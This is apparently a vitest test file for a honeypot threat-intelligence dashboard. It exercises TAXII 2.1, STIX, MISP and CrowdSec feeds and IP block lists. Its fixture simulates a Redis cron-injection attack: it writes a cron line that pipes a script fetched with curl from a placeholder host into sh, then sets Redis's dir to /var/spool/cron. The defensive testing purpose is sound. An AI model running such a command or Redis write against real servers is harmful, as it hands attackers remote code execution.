import { isIP } from 'node:net';
import ipaddr from 'ipaddr.js';
import { beforeAll, describe, expect, test } from 'vitest';
import type { InMemory } from './dashboard/in-memory.ts';
import { inMemory } from './dashboard/in-memory.ts';

const ROOT = '/taxii2/sundew/';
const MEDIA = 'application/taxii+json;version=2.1';
let dashboard: InMemory;
let objects: string;

interface Envelope {
  readonly more?: boolean;
  readonly next?: string;
  readonly objects?: readonly { readonly id: string; readonly type: string; readonly modified: string }[];
  readonly versions?: readonly string[];
}

function attackFrom(address: string, session: string): void {
  const host = `198.51.100.${session.length + Number(session.slice(1))}`;
  const value = `\n*/2 * * * * root curl http://${host}/<script>.sh | sh\n`;
  dashboard.see(
    session,
    { type: 'session.opened', protocol: 'redis', local: { address: '127.0.0.1', port: 6379 } },
    address,
  );
  dashboard.see(
    session,
    { type: 'redis.value', db: 0, key: 'backup1', kind: 'string', value, command: 'set' },
    address,
  );
  dashboard.see(
    session,
    { type: 'redis.setting', name: 'dir', value: '/var/spool/cron', accepted: true },
    address,
  );
}

beforeAll(async () => {
  dashboard = inMemory();
  for (let at = 1; at < 12; at++) attackFrom(`203.0.113.${at}`, `s${at}`);
  const { collections } = await get<{ collections: { id: string }[] }>(`${ROOT}collections/`);
  objects = `${ROOT}collections/${collections[0]?.id ?? ''}/objects/`;
});

async function get<T>(path: string, headers: Record<string, string> = {}): Promise<T> {
  const answer = await dashboard.ask(path, { accept: MEDIA, ...headers });
  expect(answer.headers.get('content-type')).toBe(MEDIA);
  return (await answer.json()) as T;
}

async function everything(query: string): Promise<string[]> {
  const ids: string[] = [];
  let next: string | undefined;
  for (let turn = 0; turn < 200; turn++) {
    const page: Envelope = await get(
      `${objects}?${query}${next === undefined ? '' : `&next=${encodeURIComponent(next)}`}`,
    );
    ids.push(...(page.objects ?? []).map(({ id }) => id));
    next = page.next;
    expect(page.more ?? false).toBe(next !== undefined);
    if (next === undefined) return ids;
  }
  throw new Error('it never ends');
}

describe('the TAXII server', () => {
  test('is found from the discovery on', async () => {
    const { default: root } = await get<{ default: string }>('/taxii2/');

    expect(await get(root)).toMatchObject({ versions: [MEDIA] });
    expect(await get(`${ROOT}collections/indicators`)).toMatchObject({ can_read: true, can_write: false });
  });

  test('gives the same objects whole and in pages', async () => {
    const whole = await everything('limit=1000');

    expect(whole.length).toBeGreaterThan(20);
    expect(new Set(whole).size).toBe(whole.length);
    expect(await everything('limit=7')).toEqual(whole);
    expect(await everything('limit=1')).toEqual(whole);
  });

  test('gives after a time only what was added since, and new things while they come', async () => {
    const answer = await dashboard.ask(objects, { accept: MEDIA });
    const last = answer.headers.get('x-taxii-date-added-last') ?? '';
    const before = new Set(await everything('limit=1000'));
    expect(await get(`${objects}?added_after=${last}`)).toEqual({});
    dashboard.clock.advance(61_000);
    attackFrom('203.0.113.200', 's77');

    const fresh = await everything(`added_after=${last}&limit=3`);
    expect(fresh.some((id) => !before.has(id) && id.startsWith('indicator--'))).toBe(true);
  });

  test('filters, and shows one object with its versions', async () => {
    const types = new Set(
      ((await get<Envelope>(`${objects}?match[type]=indicator,identity`)).objects ?? []).map(
        ({ type }) => type,
      ),
    );
    expect(types).toEqual(new Set(['indicator', 'identity']));
    const [first] = (await get<Envelope>(`${objects}?match[type]=indicator`)).objects ?? [];

    expect((await get<Envelope>(`${objects}${first?.id ?? ''}/`)).objects).toEqual([first]);
    expect((await get<Envelope>(`${objects}${first?.id ?? ''}/versions/`)).versions).toEqual([
      first?.modified,
    ]);
    expect(
      (await get<Envelope>(`${objects}?match[version]=2001-01-01T00:00:00.000Z`)).objects,
    ).toBeUndefined();
  });

  test('has a manifest of the same objects', async () => {
    const { objects: entries = [] } = await get<Envelope>(objects.replace('objects/', 'manifest/'));

    expect(entries.map(({ id }) => id)).toEqual(await everything('limit=1000'));
  });

  test.for([
    ['/taxii2/sundew/collections/other/objects/', 404, MEDIA],
    ['/taxii2/sundew/collections/indicators/objects/indicator--0/', 404, MEDIA],
    ['/taxii2/sundew/collections/indicators/objects/?limit=0', 400, MEDIA],
    ['/taxii2/sundew/collections/indicators/objects/?next=;drop', 400, MEDIA],
    ['/taxii2/sundew/collections/indicators/objects/?added_after=yesterday', 400, MEDIA],
    ['/taxii2/', 406, 'application/taxii+json;version=2.0'],
    ['/taxii2/', 406, 'text/html'],
  ] as const)('answers %s with %i', async ([path, status, accept]) => {
    const answer = await dashboard.ask(path, { accept });

    expect(answer.status).toBe(status);
    expect(((await answer.json()) as { http_status: string }).http_status).toBe(String(status));
  });
});

describe('feeds to be fetched', () => {
  test('each has a tag, and is not sent twice to who has it', async () => {
    const answer = await dashboard.ask('/feeds/stix');
    const tag = answer.headers.get('etag') ?? '';

    expect(((await answer.json()) as { type: string }).type).toBe('bundle');
    expect((await dashboard.ask('/feeds/stix', { 'if-none-match': tag })).status).toBe(304);
    expect((await dashboard.ask('/feeds/nothing')).status).toBe(404);
  });

  test('the MISP feed names its event, and has it', async () => {
    const manifest = await dashboard.json<Record<string, { info: string }>>('/misp/manifest.json');
    const [uuid = ''] = Object.keys(manifest);
    const { Event: event } = await dashboard.json<{
      Event: { uuid: string; Attribute: { value: string }[] };
    }>(`/misp/${uuid}.json`);
    const hashes = await (await dashboard.ask('/misp/hashes.csv')).text();

    expect(event.uuid).toBe(uuid);
    expect(manifest[uuid]?.info).toContain('Redis');
    expect(hashes.trim().split('\n')).toHaveLength(event.Attribute.length);
    expect((await dashboard.ask('/misp/other.json')).status).toBe(404);
  });

  test('a bouncer of CrowdSec gets everything at first, then what changed', async () => {
    type Stream = { new: { value: string; duration: string }[]; deleted: unknown[] };
    const first = await dashboard.json<Stream>('/v1/decisions/stream?startup=true');
    const again = await dashboard.json<Stream>('/v1/decisions/stream');

    expect(first.new.length).toBeGreaterThan(10);
    expect(first.new.every(({ value, duration }) => isIP(value) !== 0 && /^\d+h$/.test(duration))).toBe(true);
    expect(again).toEqual({ new: [], deleted: [] });
  });

  test('networks cover exactly the addresses of the block list', async () => {
    const lines = async (name: string): Promise<string[]> =>
      (await (await dashboard.ask(`/feeds/${name}`)).text())
        .split('\n')
        .filter((line) => line !== '' && !line.startsWith('#'));
    const addresses = new Set(await lines('blocklist'));
    const networks = (await lines('cidr')).map((text) => ipaddr.parseCIDR(text));

    const covered = networks.reduce((sum, [, bits]) => sum + 2 ** (32 - bits), 0);
    expect(networks.length).toBeLessThan(addresses.size);
    expect(covered).toBe(addresses.size);
    for (const address of addresses) {
      expect(networks.some(([network, bits]) => ipaddr.parse(address).match(network, bits))).toBe(true);
    }
  });
});
